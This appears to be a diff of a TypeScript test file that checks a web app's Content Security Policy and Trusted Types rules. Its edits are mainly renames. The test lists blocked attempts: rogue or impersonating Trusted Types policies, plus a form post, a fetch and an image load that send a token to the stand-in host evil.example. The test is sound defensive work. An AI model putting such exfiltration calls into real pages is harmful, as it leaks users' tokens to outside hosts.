@@ -16,11 +16,11 @@ const digests = (page: string, element: RegExp) =>
       .digest('base64'),
   );
 
-for (const build of ['shop', 'elsewhere', 'demo'] as const) {
+for (const build of ['shop', 'crossOrigin', 'demo'] as const) {
   base(`policy: module, page and headers of the ${build} build agree, and nothing is inline but what they list`, () => {
     const page = pageOf(build);
     const policy = contentSecurityPolicy({
-      origins: build === 'elsewhere' ? [builds.elsewhere.apiUrl] : [],
+      origins: build === 'crossOrigin' ? [builds.crossOrigin.apiUrl] : [],
       hasMockBackend: build === 'demo',
       inline: { scripts: digests(page, /<script>(.*?)<\/script>/gs), styles: digests(page, /<style>(.*?)<\/style>/gs) },
     });
@@ -67,14 +67,14 @@ const attempts: Readonly<Record<string, () => unknown>> = {
   'a policy of its own': () => Reflect.get(window, 'trustedTypes')?.createPolicy('evil', { createScriptURL: (address: string) => address }),
   'a policy in the name of ours, before ours is used': () =>
     Reflect.get(window, 'trustedTypes')?.createPolicy('my-food-receipt', { createScriptURL: (address: string) => address }),
-  'a form to elsewhere': () => {
+  'a form to another origin': () => {
     const form = document.createElement('form');
     form.action = 'https://evil.example/';
     document.body.append(form);
     form.submit();
   },
-  'a call to elsewhere': () => fetch('https://evil.example/?token=x'),
-  'a picture from elsewhere': () => {
+  'a call to another origin': () => fetch('https://evil.example/?token=x'),
+  'a picture of another origin': () => {
     const image = document.createElement('img');
     image.setAttribute('src', 'https://evil.example/?token=x');
     document.body.append(image);
